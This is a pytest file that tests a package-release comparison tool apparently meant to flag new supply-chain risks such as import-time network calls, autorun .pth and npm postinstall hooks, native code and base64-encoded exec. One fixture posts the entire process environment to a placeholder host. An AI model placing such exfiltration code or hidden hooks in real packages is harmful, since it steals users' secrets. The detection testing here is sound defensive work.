"""What one release can do that another could not, on real archives, whatever else changes in them."""

import io

import pytest

from ostiary.core.coverage import Reach
from ostiary.evidence.artifact import examine
from ostiary.program.capabilities.collect import abilities
from ostiary.program.capabilities.delta import ReleaseDelta, Side, compare
from ostiary.program.capabilities.files import FileChange
from ostiary.program.capabilities.record import Capability, Sort, distinct
from world import build

GREET = "def greet(name):\n    return 'hello ' + name\n"
FETCH = (
    "import urllib.request\n\n\ndef version():\n"
    "    return urllib.request.urlopen('https://cdn.example.invalid/v1.0/latest').read()\n"
)
SEND = (
    "import os, requests\n\n"
    "requests.post('https://drop.example.invalid/in', json=dict(os.environ))\n"
)


def side(*archives: tuple[str, bytes]) -> Side:
    facts = [fact for name, data in archives for fact in examine(io.BytesIO(data), name).facts]
    return Side(archives[0][0], abilities(facts))


def sdist(version: str, files: dict[str, str | bytes]) -> tuple[str, bytes]:
    return build.sdist("sample", version, files)


def wheel(
    version: str, files: dict[str, str | bytes], tag: str = "py3-none-any"
) -> tuple[str, bytes]:
    return build.wheel("sample", version, files, tag=tag)


def told(delta: ReleaseDelta) -> set[str]:
    return {str(one) for one in delta.added}


def between(old: dict[str, str | bytes], new: dict[str, str | bytes]) -> ReleaseDelta:
    return compare(side(sdist("1.1", new)), (side(sdist("1.0", old)),))


def test_what_is_sent_on_import_is_new() -> None:
    delta = between({"sample.py": GREET}, {"sample.py": GREET + SEND})
    assert "sends away the whole environment on import" in told(delta)
    assert "opens the network on import" in told(delta)
    assert "contacts example.invalid" in told(delta)
    [leak] = [one for one in delta.added if one.sort is Sort.LEAK]
    assert (leak.at.path, leak.at.line) == ("sample-1.1/sample.py", 5)


def test_the_other_way_round_it_is_gone() -> None:
    delta = between({"sample.py": GREET + SEND}, {"sample.py": GREET})
    assert not delta.added
    assert "contacts example.invalid" in {str(one) for one in delta.gone}


@pytest.mark.parametrize(
    "again",
    [
        {"sample.py": GREET, "fetch.py": FETCH},
        {"fetch.py": "# moved\n\n\n" + FETCH, "sample.py": GREET},
        {"sample.py": GREET, "v2/fetch.py": FETCH.replace("v1.0", "v1.1")},
        {"sample.py": GREET, "fetch.py": FETCH.replace("cdn.", "files2.")},
    ],
)
def test_versions_folders_and_order_make_no_difference(again: dict[str, str | bytes]) -> None:
    delta = between({"sample.py": GREET, "fetch.py": FETCH}, again)
    assert not delta.added
    assert not delta.gone


def test_a_call_that_becomes_an_import_is_new() -> None:
    call = "import subprocess\n\n\ndef go():\n    subprocess.run(['echo', 'x'])\n"
    delta = between({"sample.py": call}, {"sample.py": call + "\n\ngo()\n"})
    assert told(delta) == {"starts programs on import"}


def test_what_runs_by_itself_is_new() -> None:
    old, new = (
        wheel("1.0", {"sample.py": GREET}),
        wheel("1.1", {"sample.py": GREET, "sample.pth": "import sample\n"}),
    )
    assert "runs by itself: a line that runs at every start" in told(
        compare(side(new), (side(old),))
    )


def test_an_npm_hook_is_new() -> None:
    package = {"name": "sample", "version": "1.0.0"}
    old = "sample-1.0.0.tgz", build.npm_archive(package)
    scripts = {"postinstall": "node index.js"}
    new = "sample-1.1.0.tgz", build.npm_archive({**package, "version": "1.1.0", "scripts": scripts})
    assert told(compare(side(new), (side(old),))) >= {"runs by itself: npm postinstall"}


def test_machine_code_is_new_but_not_for_another_platform() -> None:
    code = b"\x7fELF\x02\x01\x01" + bytes(57)
    old = side(wheel("1.0", {"s/_fast.cpython-311-x86_64-linux-gnu.so": code}))
    same = side(wheel("1.1", {"s/_fast.cpython-312-aarch64-linux-gnu.so": code}))
    more = side(wheel("1.1", {"s/_fast.cp311-win_amd64.pyd": code, "s/helper.so": code}))
    assert not compare(same, (old,)).added
    assert told(compare(more, (old,))) == {"machine code helper"}


def test_a_decoded_layer_is_new() -> None:
    new = "import base64\nexec(base64.b64decode('cHJpbnQoIngiKQ=='))\n"
    found = told(between({"sample.py": GREET}, {"sample.py": new}))
    assert any(one.startswith("hides: ") for one in found)


def test_what_tests_do_is_named_as_such() -> None:
    delta = between({"sample.py": GREET}, {"sample.py": GREET, "tests/test_it.py": SEND})
    assert delta.added
    assert {one.reach for one in delta.added} == {Reach.TEST}
    assert not [one for one in delta.added if one.sort is Sort.HOST]


def test_several_earlier_releases_count_together() -> None:
    first, second = (
        side(sdist("1.0", {"sample.py": FETCH})),
        side(sdist("1.1", {"sample.py": GREET})),
    )
    new = side(sdist("1.2", {"sample.py": FETCH}))
    assert compare(new, (second,)).added
    assert not compare(new, (second, first)).added


def test_wheels_are_compared_with_wheels() -> None:
    """The setup.py of an earlier sdist does not make a new one in a wheel's place old."""
    old = side(sdist("1.0", {}), wheel("1.0", {"sample.py": GREET}))
    new = side(sdist("1.1", {}), wheel("1.1", {"sample.py": GREET + SEND}))
    assert "opens the network on import" in told(compare(new, (old,)))
    assert not [one for one in compare(new, (old,)).added if one.sort is Sort.ROOT]


def test_an_sdist_where_there_was_a_wheel_runs_on_install() -> None:
    delta = compare(side(sdist("1.1", {})), (side(wheel("1.0", {"sample.py": GREET})),))
    assert "runs by itself: setup.py" in told(delta)


def test_code_that_is_not_understood_is_told_unless_it_was_there() -> None:
    broken = b"}} (( ]] << ?? not code\n" * 40
    delta = between({"sample.py": GREET}, {"sample.py": GREET, "more.py": broken})
    assert delta.unread == ("sample-1.1.tar.gz: sample-1.1/more.py",)
    again = between(
        {"sample.py": GREET, "more.py": broken}, {"sample.py": GREET, "more.py": broken}
    )
    assert not again.unread
    assert not again.doubts
    assert between({"more.py": broken}, {"more.py": GREET}).doubts


def test_files_are_added_removed_changed_and_renamed() -> None:
    old: dict[str, str | bytes] = {"a.py": GREET, "b.py": "B = 1\n", "c.py": "C = 1\n"}
    new: dict[str, str | bytes] = {"a.py": GREET + "\n", "d.py": "B = 1\n", "e.py": "E = 1\n"}
    delta = compare(side(wheel("1.1", new)), (side(wheel("1.0", old)),))
    rows = [one for one in delta.changes if "dist-info" not in one.path]
    assert rows == [
        FileChange("a.py", "changed"),
        FileChange("c.py", "removed"),
        FileChange("d.py", "renamed", "b.py"),
        FileChange("e.py", "added"),
    ]
    info = [one for one in delta.changes if "dist-info" in one.path]
    assert {one.how for one in info} == {"changed"}


def test_an_ability_is_kept_at_its_earliest_moment() -> None:
    late = Capability(Sort.HOST, "example.invalid", Reach.CALL)
    early = Capability(Sort.HOST, "example.invalid", Reach.INSTALL)
    assert [one.reach for one in distinct((late, early, late))] == [Reach.INSTALL]
